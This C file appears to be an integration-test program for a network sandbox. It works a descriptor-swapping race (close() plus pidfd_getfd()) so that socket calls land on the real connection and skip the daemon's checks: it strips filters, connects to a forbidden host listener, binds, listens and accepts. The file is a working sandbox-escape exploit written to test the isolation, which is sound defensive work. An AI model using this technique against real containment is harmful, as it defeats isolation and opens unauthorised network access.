/* leave_node - an app that tries to get from its end of a connection with another node into the network of its
 * host (tests/integration/cluster-escape.sh).
 *
 *   leave_node to ADDR PORT      HOST PORT OWN    its end is the one that connects,
 *   leave_node at ADDR PORT      HOST PORT OWN    ... or the one that accepts
 *
 * HOST PORT is a listener that no app must reach; OWN a port at which it would listen itself.
 *
 * What the daemon finds to be no socket it leaves to the kernel, which makes the call on the file that is at
 * the number then. A second thread exchanges the two with close() and pidfd_getfd(), which nobody traps. Prints
 * how far it got, "got out: ..." if a byte or a connection came from the host's network, "end" at last. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/filter.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define SECONDS	   8
#define MORE_TRIES 20000 /* of what shows no success */
#define LISTEN_MS  3000

static int self, conn, bait;
static atomic_int number;
static atomic_bool running;
static struct sockaddr_in target, own;

static void *exchange(void *arg)
{
	int files[2] = { bait, conn };

	for (unsigned i = 0; running; i++) {
		close(number);
		syscall(SYS_pidfd_getfd, self, files[i % 2], 0);
		for (volatile int n = 0; n < 300; n++)
			;
	}
	return arg;
}

static int state(void)
{
	struct tcp_info info = { 0 };
	socklen_t len = sizeof(info);

	getsockopt(conn, IPPROTO_TCP, TCP_INFO, &info, &len);
	return info.tcpi_state;
}

static bool is_out(void)
{
	return state() == TCP_CLOSE;
}

static bool is_called(void)
{
	return state() != TCP_CLOSE;
}

static bool is_listening(void)
{
	return state() == TCP_LISTEN;
}

static bool never(void)
{
	return false;
}

static void call_unspec(int fd)
{
	struct sockaddr any = { .sa_family = AF_UNSPEC };

	(void)connect(fd, &any, sizeof(any));
}

static void call_connect(int fd)
{
	(void)connect(fd, (struct sockaddr *)&target, sizeof(target));
}

static void call_bind(int fd)
{
	(void)bind(fd, (struct sockaddr *)&own, sizeof(own));
}

static void call_listen(int fd)
{
	listen(fd, 8);
}

static void call_unfilter(int fd)
{
	static const int one = 1;
	int zero = 0;
	struct sock_filter all = { BPF_RET | BPF_K, 0, 0, ~0u };
	struct sock_fprog prog = { .len = 1, .filter = &all };

	setsockopt(fd, SOL_SOCKET, SO_LOCK_FILTER, &zero, sizeof(zero));
	setsockopt(fd, SOL_SOCKET, SO_DETACH_FILTER, &one, sizeof(one));
	setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &prog, sizeof(prog));
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &one, sizeof(one));
}

static void call_accept(int fd)
{
	int got = accept(fd, NULL, NULL);

	if (got >= 0) {
		printf("got out: accepted a connection\n");
		close(got);
	}
}

/* True if the call was made on the connection at last. */
static bool race(const char *what, void (*call)(int), bool (*won)(void), int tries)
{
	time_t end = time(NULL) + SECONDS;
	pthread_t thread;
	int i;

	number = dup(bait);
	running = true;
	pthread_create(&thread, NULL, exchange, NULL);
	for (i = 0; i < tries && time(NULL) < end && !won(); i++)
		call(number);
	running = false;
	pthread_join(thread, NULL);
	close(number);
	if (won != never)
		printf("%s: %s\n", what, won() ? "done" : "not done");
	else if (call != call_accept)
		printf("%s: tried\n", what);
	fflush(stdout);
	return won();
}

static int must(int r, const char *what)
{
	if (r < 0) {
		perror(what);
		exit(1);
	}
	return r;
}

/* Does it hear anything of whom it called? */
static void listen_for_answer(void)
{
	struct pollfd p = { .fd = conn, .events = POLLIN | POLLOUT };
	char buf[100];
	ssize_t n;

	for (int i = 0; i < 10 && state() == TCP_SYN_SENT; i++)
		poll(&p, 1, 100);
	printf("state: %d\n", state());
	if (state() == TCP_ESTABLISHED || state() == TCP_CLOSE_WAIT)
		printf("got out: connected\n");
	p.events = POLLIN;
	poll(&p, 1, 500);
	n = recv(conn, buf, sizeof(buf), MSG_DONTWAIT);
	if (n > 0)
		printf("got out: read %.*s\n", (int)n, buf);
}

static struct sockaddr_in address(const char *addr, const char *port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET,
				  .sin_port = htons((uint16_t)atoi(port)) };

	if (inet_pton(AF_INET, addr, &sa.sin_addr) != 1)
		exit(2);
	return sa;
}

static int open_connection(bool accepts, const struct sockaddr_in *sa)
{
	int fd = must(socket(AF_INET, SOCK_STREAM, 0), "socket"), one = 1, peer;

	if (!accepts) {
		must(connect(fd, (const struct sockaddr *)sa, sizeof(*sa)), "connect");
		return fd;
	}
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	must(bind(fd, (const struct sockaddr *)sa, sizeof(*sa)), "bind");
	must(listen(fd, 8), "listen");
	peer = must(accept(fd, NULL, NULL), "accept");
	close(fd);
	return peer;
}

int main(int argc, char **argv)
{
	struct sockaddr_in at;
	struct timespec until, now;
	char c;

	if (argc != 7)
		return 2;
	at = address(argv[2], argv[3]);
	target = address(argv[4], argv[5]);
	own = address("0.0.0.0", argv[6]);
	conn = open_connection(strcmp(argv[1], "at") == 0, &at);
	must((int)read(conn, &c, 1), "read");
	must(fcntl(conn, F_SETFL, O_NONBLOCK), "fcntl");
	self = must((int)syscall(SYS_pidfd_open, getpid(), 0), "pidfd_open");
	bait = must(open("/dev/null", O_RDWR), "/dev/null");

	race("without its filter", call_unfilter, never, MORE_TRIES);
	if (!race("out of its connection", call_unspec, is_out, INT_MAX))
		goto end;
	if (race("connecting elsewhere", call_connect, is_called, INT_MAX)) {
		listen_for_answer();
		if (!race("out of that", call_unspec, is_out, INT_MAX))
			goto end;
	}
	race("bound", call_bind, never, MORE_TRIES);
	if (race("listening", call_listen, is_listening, INT_MAX)) {
		clock_gettime(CLOCK_MONOTONIC, &until);
		until.tv_sec += LISTEN_MS / 1000;
		do {
			race("accepting", call_accept, never, MORE_TRIES / 20);
			clock_gettime(CLOCK_MONOTONIC, &now);
		} while (now.tv_sec < until.tv_sec);
	}
end:
	printf("end\n");
	return 0;
}
